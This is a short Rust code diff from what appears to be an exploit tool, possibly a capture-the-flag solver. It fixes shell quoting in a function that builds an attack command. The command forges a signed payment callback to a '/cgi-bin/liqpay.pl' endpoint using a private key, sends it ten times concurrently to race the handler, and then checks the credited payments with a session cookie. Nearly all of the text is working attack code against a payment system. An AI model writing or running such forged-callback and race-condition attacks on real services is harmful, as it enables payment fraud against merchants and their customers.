@@ -188,7 +188,7 @@ fn callback(base: &str, api: &str, session: &str, (public, private): (&str, &str
     );
     format!(
         "c=\"{session}\"; o=$({order}); d=$(printf '{report}' $o $o | base64 -w0); \
-         g=$(printf %s \"{private}$d{private}\" | openssl dgst -sha1 -binary | base64); \
+         g=$(printf %s \"{private}${{d}}{private}\" | openssl dgst -sha1 -binary | base64); \
          for i in 1 2 3 4 5 6 7 8 9 10; do curl -s {base}/cgi-bin/liqpay.pl --data-urlencode \"data=$d\" \
          --data-urlencode \"signature=$g\" & done; wait; echo; curl -s '{api}?a=u_pays' --cookie \"$c\""
     )
